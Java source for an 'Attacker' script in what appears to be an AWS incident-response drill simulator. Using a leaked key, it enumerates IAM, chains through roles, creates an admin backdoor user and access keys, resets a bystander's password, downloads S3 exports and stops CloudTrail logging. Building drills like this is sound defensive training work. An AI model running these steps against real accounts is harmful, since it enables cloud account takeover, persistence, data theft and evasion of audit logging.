package io.stakeout.drill.cast;

import java.util.List;
import java.util.Optional;

import software.amazon.awssdk.services.cloudtrail.CloudTrailClient;
import software.amazon.awssdk.services.iam.IamClient;
import software.amazon.awssdk.services.iam.model.CreateAccessKeyResponse;
import software.amazon.awssdk.services.s3.S3Client;
import software.amazon.awssdk.services.sts.StsClient;

/**
 * Who holds the leaked key: looks around, hops through two roles, leaves itself three ways back in, steals, tries to blind
 * the trail, and then keeps coming until nothing works any more.
 */
final class Attacker implements Script {

    static final String BACKDOOR = "svc-metrics";
    private static final String ADMIN = "arn:aws:iam::aws:policy/AdministratorAccess";

    /** How often it comes back before it loses interest: about an hour and a half. */
    private static final int RETURNS = 400;

    private final Clients clients;
    private final Keys leaked;
    private final Wallet wallet;
    private final Persistence persistence;

    /** @param fighting whether it watches what is done against it, and undoes that */
    Attacker(Clients clients, Keys leaked, boolean fighting) {
        this.clients = clients;
        this.leaked = leaked;
        this.wallet = new Wallet(clients, Persona.ATTACKER, leaked);
        this.persistence = fighting ? new Fighting(clients, wallet) : new Patient(wallet);
    }

    @Override
    public Persona persona() {
        return Persona.ATTACKER;
    }

    @Override
    public void play(Pulse pulse) {
        attack(pulse);
        for (int i = 0; i < RETURNS && comesBack(pulse); i++) {
            pulse.seconds(8);
        }
    }

    /** All that it comes for, once. */
    void attack(Pulse pulse) {
        lookAround(pulse);
        hop(pulse);
        stayIn(pulse);
        steal(pulse);
        blind(pulse);
    }

    /** Tries once more; whether it will again. */
    boolean comesBack(Pulse pulse) {
        return persistence.goesOn(pulse);
    }

    /** What it holds by now. */
    List<Wallet.Held> held() {
        return wallet.all();
    }

    private void lookAround(Pulse pulse) {
        StsClient sts = clients.sts(persona(), leaked);
        IamClient iam = clients.iam(persona(), leaked);
        Attempt.of(sts::getCallerIdentity);
        pulse.seconds(1.5);
        Attempt.of(iam::listUsers);
        pulse.seconds(1.2);
        Attempt.of(iam::listRoles);
        pulse.seconds(2);
        Attempt.of(iam::getAccountAuthorizationDetails);
        pulse.seconds(1.5);
        Attempt.of(clients.s3(persona(), leaked)::listBuckets);
        pulse.seconds(2);
        Attempt.of(clients.cloudTrail(persona(), leaked)::describeTrails);
        pulse.seconds(3);
    }

    private void hop(Pulse pulse) {
        Optional<Keys> deploy =
                wallet.assume(leaked, Scenery.roleArn(Scenery.WORKLOAD, Scenery.DEPLOY_ROLE), "s3-sync");
        if (deploy.isEmpty()) {
            return;
        }
        pulse.seconds(2);
        Attempt.of(clients.sts(persona(), deploy.get())::getCallerIdentity);
        pulse.seconds(1.5);
        Optional<Keys> backup =
                wallet.assume(deploy.get(), Scenery.roleArn(Scenery.BACKUP, Scenery.BACKUP_ROLE), "s3-sync");
        pulse.seconds(2);
        backup.ifPresent(keys -> {
            S3Client s3 = clients.s3(persona(), keys);
            Attempt.of(s3::listBuckets);
            Attempt.of(() -> s3.listObjectsV2(request -> request.bucket(Scenery.ARCHIVE)));
        });
        pulse.seconds(3);
    }

    private void stayIn(Pulse pulse) {
        IamClient iam = clients.iam(persona(), leaked);
        keyFor(Persona.TOM.name());
        pulse.seconds(2);
        wallet.session(leaked).ifPresent(keys -> {
            Attempt.of(clients.s3(persona(), keys)::listBuckets);
            pulse.seconds(2);
        });
        Attempt.of(() -> iam.createUser(request -> request.userName(BACKDOOR)));
        pulse.seconds(1.5);
        Attempt.of(() -> iam.createLoginProfile(request ->
                request.userName(BACKDOOR).password("Winter-2026!drill").passwordResetRequired(false)));
        pulse.seconds(1.5);
        Attempt.of(
                () -> iam.attachUserPolicy(request -> request.userName(BACKDOOR).policyArn(ADMIN)));
        pulse.seconds(1.5);
        keyFor(BACKDOOR);
        pulse.seconds(6);
        Attempt.of(() -> iam.updateLoginProfile(
                request -> request.userName(Scenery.BYSTANDER).password("Summer-2026!drill")));
        pulse.seconds(2);
    }

    private void keyFor(String user) {
        Attempt.of(() -> clients.iam(persona(), leaked).createAccessKey(request -> request.userName(user)))
                .map(CreateAccessKeyResponse::accessKey)
                .map(Keys::of)
                .ifPresent(keys -> wallet.add(user, keys));
    }

    private void steal(Pulse pulse) {
        S3Client s3 = clients.s3(persona(), wallet.newest());
        Attempt.of(() -> s3.listObjectsV2(request -> request.bucket(Scenery.EXPORTS)));
        for (int i = 0; i < 6; i++) {
            String key = Stock.export(i);
            Attempt.of(() -> s3.getObjectAsBytes(
                    request -> request.bucket(Scenery.EXPORTS).key(key)));
            pulse.seconds(1);
        }
    }

    private void blind(Pulse pulse) {
        CloudTrailClient trail = clients.cloudTrail(persona(), wallet.newest());
        Attempt.of(() -> trail.getTrailStatus(request -> request.name(Scenery.TRAIL)));
        pulse.seconds(1.5);
        Attempt.of(() -> trail.stopLogging(request -> request.name(Scenery.TRAIL)));
        pulse.seconds(4);
    }
}
